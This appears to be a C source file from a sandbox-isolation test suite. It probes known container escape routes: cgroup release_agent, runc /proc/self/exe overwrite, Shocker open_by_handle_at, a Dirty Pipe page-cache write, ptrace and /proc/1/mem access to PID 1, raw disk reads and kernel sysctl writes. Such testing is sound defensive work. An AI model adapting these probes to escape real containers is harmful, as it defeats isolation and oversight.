/* Ways out that worked somewhere once. Each stops one step before harm: present values are written back, disks are read, signals are not sent. */
#include "attacker.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>

/* CVE-2022-0492: mount a v1 hierarchy, name a program for its release_agent. */
static void release_agent(void)
{
	static const char *const controllers[] = { "pids", "memory", "freezer", "rdma" };
	mkdir("/tmp/cg", 0700);
	for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); i++) {
		char what[64];
		snprintf(what, sizeof(what), "mount the cgroup hierarchy of %s", controllers[i]);
		if (GOAL(what, SYS_mount, "cgroup", "/tmp/cg", "cgroup", 0, controllers[i]) < 0)
			continue;
		TRY("open its release_agent", SYS_openat, AT_FDCWD, "/tmp/cg/release_agent", O_WRONLY);
		umount2("/tmp/cg", MNT_DETACH);
	}
	if (GOAL("mount cgroup2", SYS_mount, "cgroup2", "/tmp/cg", "cgroup2", 0, 0) >= 0)
		umount2("/tmp/cg", MNT_DETACH);
	rmdir("/tmp/cg");
}

/* CVE-2022-0185, CVE-2023-2640 and many more begin so: root in a namespace of one's own, then what only root may do. */
static void nested_user_namespace(void)
{
	GOAL("unshare user and mount namespaces", SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS);
	GOAL("mount a tmpfs in it", SYS_mount, "none", "/tmp", "tmpfs", 0, 0);
	GOAL("fsopen in it", SYS_fsopen, "tmpfs", 0);
}

/* CVE-2019-5736: the program that enters the environment is written over through /proc. */
static void program_overwrite(void)
{
	static const char *const programs[] = { "/proc/self/exe", "/proc/1/exe" };
	for (size_t i = 0; i < sizeof(programs) / sizeof(programs[0]); i++) {
		long fd = GOAL(programs[i], SYS_openat, AT_FDCWD, programs[i], O_RDWR);
		/* That it is running now would be all that stops it. */
		if (fd < 0)
			judge(errno == ETXTBSY);
	}
}

/* Writes a setting's present value back to it. */
static void write_back(const char *path)
{
	static char text[256];
	long size = read_file(path, text, sizeof(text));
	int fd = (int)GOAL(path, SYS_openat, AT_FDCWD, path, O_WRONLY);
	if (fd < 0)
		return;
	GOAL("write its present value back", SYS_write, fd, text, size < 0 ? 0 : size);
	close(fd);
}

static void kernel_settings(void)
{
	static const char *const paths[] = { "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/panic", "/proc/sys/vm/overcommit_memory",
		"/proc/sys/fs/file-max", "/proc/sys/fs/binfmt_misc/register" };
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
		write_back(paths[i]);
}

static void system_request(void)
{
	GOAL("/proc/sysrq-trigger", SYS_openat, AT_FDCWD, "/proc/sysrq-trigger", O_WRONLY);
}

static void raw_disk(void)
{
	static char sector[512];
	unsigned long device = (unsigned long)event_number("rootDevice", 0x800);
	GOAL("mknod of the host's disk", SYS_mknodat, AT_FDCWD, "/tmp/disk", S_IFBLK | 0600, device);
	long fd = GOAL("open it", SYS_openat, AT_FDCWD, "/tmp/disk", O_RDONLY);
	if (fd >= 0)
		GOAL("read its first sector", SYS_pread64, fd, sector, sizeof(sector), 0);
	unlink("/tmp/disk");
}

/* Shocker (2014): a file by its inode, past every mount. Inode 2 is the root of /tmp's own volume, above the directory that is bound as /tmp. */
static void open_by_handle(void)
{
	static struct { unsigned int bytes; int type; uint32_t inode, generation; } handle = { 8, 1, 2, 0 };
	int mount_id = 0;
	int fd = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	TRY("name_to_handle_at", SYS_name_to_handle_at, AT_FDCWD, "/tmp", &handle, &mount_id, 0);
	handle.bytes = 8;
	handle.type = 1;
	handle.inode = 2;
	handle.generation = 0;
	GOAL("open_by_handle_at: above /tmp", SYS_open_by_handle_at, fd, &handle, O_RDONLY);
}

static void first_process(void)
{
	static char byte;
	const struct { void *base; size_t size; } local = { &byte, 1 }, remote = { (void *)0x400000, 1 };
	GOAL("ptrace: seize PID 1", SYS_ptrace, 0x4206, 1, 0, 0);
	GOAL("process_vm_readv from PID 1", SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0);
	GOAL("open /proc/1/mem", SYS_openat, AT_FDCWD, "/proc/1/mem", O_RDWR);
	GOAL("open /proc/1/root", SYS_openat, AT_FDCWD, "/proc/1/root/etc", O_RDONLY | O_DIRECTORY);
	GOAL("open /proc/1/fd", SYS_openat, AT_FDCWD, "/proc/1/fd", O_RDONLY | O_DIRECTORY);
	GOAL("open PID 1's control socket", SYS_openat, AT_FDCWD, "/proc/1/fd/3", O_RDWR);
	GOAL("open /proc/1/environ", SYS_openat, AT_FDCWD, "/proc/1/environ", O_RDONLY);
	/* PR_SET_DUMPABLE of ours lets nobody look into others. */
	GOAL("kill PID 1", SYS_kill, 1, 0);
}

/* CVE-2022-0847 and what came before it: change a page of a file that may only be read. */
static void dirty_pipe(void)
{
	static const char path[] = "/usr/bin/bash";
	char before = 0, after = 0;
	int ends[2];
	long fd = GOAL("open an image file for writing", SYS_openat, AT_FDCWD, path, O_RDWR);
	if (fd >= 0) {
		pread((int)fd, &before, 1, 1);
		GOAL("write its own byte back", SYS_pwrite64, fd, &before, 1, 1);
		close((int)fd);
	}
	fd = open(path, O_RDONLY | O_CLOEXEC);
	void *mapped = mmap(NULL, 4096, PROT_READ, MAP_SHARED, (int)fd, 0);
	GOAL("mprotect its shared page writable", SYS_mprotect, mapped, 4096, PROT_READ | PROT_WRITE);
	if (pipe(ends) != 0)
		return;
	pread((int)fd, &before, 1, 4096 + 1);
	int size = fcntl(ends[1], F_GETPIPE_SZ);
	static char filler[4096];
	/* Every slot of the ring is filled and drained once, so that it keeps its flag. */
	for (int left = size; left > 0; left -= 4096)
		write(ends[1], filler, left < 4096 ? (size_t)left : 4096);
	for (int left = size; left > 0; left -= 4096)
		read(ends[0], filler, left < 4096 ? (size_t)left : 4096);
	loff_t offset = 4096;
	TRY("splice one byte of it into a pipe", SYS_splice, fd, &offset, ends[1], 0, 1, 0);
	char changed = (char)~before;
	TRY("write behind it", SYS_write, ends[1], &changed, 1);
	pread((int)fd, &after, 1, 4096 + 1);
	note("the file's page has changed", after == before ? 0 : 1, 0, after == before ? MISSED : REACHED);
}

static void clocks(void)
{
	struct timespec now;
	struct timeval present;
	struct timex adjust = { .modes = 0 };
	clock_gettime(CLOCK_REALTIME, &now);
	GOAL("clock_settime to the present time", SYS_clock_settime, CLOCK_REALTIME, &now);
	gettimeofday(&present, NULL);
	GOAL("settimeofday to the present time", SYS_settimeofday, &present, 0);
	adjtimex(&adjust);
	adjust.modes = ADJ_TICK;
	GOAL("adjtimex: the present tick", SYS_adjtimex, &adjust);
}

static void reset_of_the_root(void)
{
	GOAL("chroot", SYS_chroot, "/tmp");
	REACH("pivot_root", SYS_pivot_root, 8, 8);
	GOAL("remount the root writable", SYS_mount, "none", "/", "none", MS_REMOUNT | MS_BIND, 0);
	GOAL("unmount a masked file", SYS_umount2, "/proc/kcore", MNT_DETACH);
	GOAL("mount a fresh proc", SYS_mount, "proc", "/home", "proc", 0, 0);
}

const struct attack escape_attacks[] = {
	{ "escapes.release-agent", release_agent, 0 },
	{ "escapes.nested-user-namespace", nested_user_namespace, 0 },
	{ "escapes.program-overwrite", program_overwrite, 0 },
	{ "escapes.kernel-settings", kernel_settings, 0 },
	{ "escapes.sysrq", system_request, 0 },
	{ "escapes.raw-disk", raw_disk, 0 },
	{ "escapes.open-by-handle", open_by_handle, 0 },
	{ "escapes.first-process", first_process, 0 },
	{ "escapes.dirty-pipe", dirty_pipe, 0 },
	{ "escapes.clocks", clocks, 0 },
	{ "escapes.change-root", reset_of_the_root, 0 },
	{ NULL, NULL, 0 },
};
